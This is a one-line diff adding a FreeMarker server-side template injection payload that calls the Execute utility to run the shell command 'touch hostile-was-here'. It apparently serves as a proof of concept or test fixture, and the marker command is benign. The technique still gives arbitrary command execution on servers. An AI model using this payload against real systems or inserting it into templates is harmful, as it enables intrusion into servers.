@@ -1,0 +1,1 @@
+${r'"freemarker.template.utility.Execute"?new()("touch hostile-was-here")'?eval}
